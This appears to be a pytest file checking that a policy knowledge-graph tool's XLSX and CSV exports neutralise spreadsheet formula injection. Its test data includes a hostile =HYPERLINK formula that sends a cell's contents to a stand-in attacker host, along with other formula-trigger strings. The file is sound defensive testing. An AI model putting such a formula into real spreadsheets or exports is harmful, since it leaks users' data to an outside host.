"""Exports that stay data: no text from a document or an answer becomes a formula (issue 14, finding 4).

A unit name written ``=HYPERLINK("http://…"&A1, …)`` would be a live link in the
spreadsheet that leaks the row it sits in; ``+1``, ``-2`` and ``@x`` are formulas to Excel
when a CSV is opened; U+FFFE and VT cannot be held by XML, so an XLSX with them is corrupt.
The graphs here are written by hand (Turtle), so nothing depends on the builder.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from policykg.cli import main

openpyxl = pytest.importorskip("openpyxl")

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
#: Unit names as a hostile document writes them, and what a CSV for Excel must make of each.
HOSTILE = {HYPERLINK: "'" + HYPERLINK, "+1": "'+1", "@x": "'@x", "-2": "'-2", "\t=1": "'\t=1",
           "a\ufffeb": "a\ufffeb", "v\x0bt": "v\x0bt", "市发改局": "市发改局"}
PREFIXES = """@prefix pkg: <https://w3id.org/policykg/ontology#> .
@prefix prov: <http://www.w3.org/ns/prov#> .
@prefix dcterms: <http://purl.org/dc/terms/> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .
"""


def literal(text: str) -> str:
    """``text`` as a Turtle string: every character that is not plain printed as ``\\uXXXX``."""
    return '"' + "".join(ch if ch.isprintable() and ch not in '"\\' else f"\\u{ord(ch):04X}" for ch in text) + '"'


def matrix_ttl(short_id: str, title: str, names: list[str]) -> str:
    """One document, one key task, ``names`` the units written in it (the first leads, the others co-operate)."""
    doc = f"<https://w3id.org/policykg/id/doc/{short_id}>"
    task = f"<https://w3id.org/policykg/id/doc/{short_id}/task/1>"
    parts = [f"{doc} a pkg:PolicyDocument ; pkg:shortId {literal(short_id)} ; dcterms:title {literal(title)} .",
             f"{task} a pkg:ResponsibilityRecord ; pkg:inDocument {doc} ; pkg:text {literal(names[0])} ;",
             "  prov:wasDerivedFrom [ pkg:startLine 3 ; pkg:endLine 3 ] ;",
             "  pkg:hasResponsibility " + " ,\n    ".join(
                 f"[ pkg:role pkg:{'LeadRole' if i == 0 else 'CoRole'} ; pkg:position {i + 1} ; "
                 f"pkg:writtenName {literal(name)} ]" for i, name in enumerate(names)) + " ."]
    return PREFIXES + "\n".join(parts) + "\n"


@pytest.fixture(scope="module")
def hostile_graph(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.ttl"
    path.write_text(matrix_ttl("evil", "关于=1+1的通知&P\ufffe\x1b[2J", list(HOSTILE)), encoding="utf-8")
    return path


def test_xlsx_matrix_keeps_text_as_strings_and_numbers_as_numbers(hostile_graph, tmp_path):
    out = tmp_path / "m.xlsx"
    assert main(["export", "matrix", "--graph", str(hostile_graph), "--out", str(out)]) == 0
    sheet = openpyxl.load_workbook(out)["evil"]
    rows = list(sheet.iter_rows())
    units = {row[0].value: row for row in rows[2:]}
    assert len(units) == len(HOSTILE)
    for row in rows[2:]:
        assert row[0].data_type == "s", row[0].value            # never "f": no formula
        assert [c.value for c in row[2:5]] in ([1, 0, 0], [0, 1, 0])
        assert all(c.data_type == "n" for c in row[2:5])        # the counts stay numbers
    assert rows[1][5].data_type == "s" and rows[1][5].value.startswith("=HYPERLINK")   # the record's text
    # what XML cannot hold is written as Excel's own escape, read back by Excel as the character
    assert {"a_xFFFE_b", "v_x000B_t", HYPERLINK, "+1", "@x", "-2", "\t=1"} <= set(units)
    assert "&&P" in sheet.oddHeader.center.text and "\ufffe" not in sheet.oddHeader.center.text


def test_xlsx_formula_text_alone_is_a_string_cell(tmp_path):
    """Without the characters XML cannot hold (which alone would crash a naive writer): still no formula."""
    graph = tmp_path / "formula.ttl"
    graph.write_text(matrix_ttl("formula", "通知", [HYPERLINK, "+1", "@x", "-2"]), encoding="utf-8")
    out = tmp_path / "m.xlsx"
    assert main(["export", "matrix", "--graph", str(graph), "--out", str(out)]) == 0
    column = [row[0] for row in openpyxl.load_workbook(out)["formula"].iter_rows(min_row=3)]
    assert [(c.value, c.data_type) for c in column] == [(HYPERLINK, "s"), ("+1", "s"), ("@x", "s"), ("-2", "s")]


def test_csv_for_excel_is_neutralised_and_plain_csv_is_exact(hostile_graph, capsysbinary):
    argv = ["export", "matrix", "--graph", str(hostile_graph), "--format", "csv", "--doc", "evil"]
    assert main(argv) == 0
    plain = list(csv.reader(io.StringIO(capsysbinary.readouterr().out.decode("utf-8"))))
    assert [row[0] for row in plain[2:]] == list(HOSTILE)                    # exactly as written
    assert main([*argv, "--excel"]) == 0
    excel = capsysbinary.readouterr().out.decode("utf-8")
    assert excel.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(excel[1:])))
    assert [row[0] for row in rows[2:]] == list(HOSTILE.values())
    assert rows[1][5] == "'" + plain[1][5]                                  # the record's short text too
    assert [row[2:5] for row in rows[2:]] == [row[2:5] for row in plain[2:]]  # counts: numbers, unquoted


def test_query_csv_for_excel_is_neutralised_numbers_stay_numbers(tmp_path, capsysbinary):
    graph = tmp_path / "answers.ttl"
    values = [literal(v) for v in HOSTILE] + ['"-2"^^xsd:integer', '"-0.5"^^xsd:decimal']
    graph.write_text(PREFIXES + "".join(f"<http://example.org/x{i}> <http://example.org/p> {v} .\n"
                                        for i, v in enumerate(values)), encoding="utf-8")
    query = "SELECT ?s ?o WHERE { ?s <http://example.org/p> ?o } ORDER BY ?s"
    assert main(["query", "-e", query, "--graph", str(graph), "--format", "csv"]) == 0
    plain = list(csv.reader(io.StringIO(capsysbinary.readouterr().out.decode("utf-8"))))
    assert [row[1] for row in plain[1:]] == [*HOSTILE, "-2", "-0.5"]
    assert main(["query", "-e", query, "--graph", str(graph), "--format", "csv", "--excel"]) == 0
    excel = capsysbinary.readouterr().out.decode("utf-8")
    assert excel.startswith("\ufeffs,o\n")
    rows = list(csv.reader(io.StringIO(excel[1:])))
    assert [row[1] for row in rows[1:]] == [*HOSTILE.values(), "-2", "-0.5"]   # typed numbers untouched


def test_a_matrix_larger_than_a_sheet_is_one_line_exit_2(tmp_path, capsys, monkeypatch):
    """The row limit, scaled down: a sheet of 5 rows cannot hold 2 header rows and 4 units."""
    import policykg.use.spreadsheet
    monkeypatch.setattr(policykg.use.spreadsheet, "XLSX_MAX_ROWS", 5)
    graph = tmp_path / "four.ttl"
    graph.write_text(matrix_ttl("four", "四个单位", ["市发改局", "市财政局", "市科技局", "市经信局"]), encoding="utf-8")
    out = tmp_path / "m.xlsx"
    assert main(["export", "matrix", "--graph", str(graph), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert len(err.strip().splitlines()) == 1 and "rows" in err and "four" in err, err
    assert not out.exists()
    monkeypatch.setattr(policykg.use.spreadsheet, "XLSX_MAX_ROWS", 6)              # exactly full: written
    assert main(["export", "matrix", "--graph", str(graph), "--out", str(out)]) == 0


def test_sheet_names_from_hostile_ids_are_valid(tmp_path):
    from policykg.use.export import sheet_name
    for name in ("a\x0bb", "x\ufffe", "esc\x1b[2J", "a:b/c"):
        made = sheet_name(name, set())
        assert made and not any(ch < " " or ch in "\ufffe\uffff[]:*?/\\" for ch in made), made
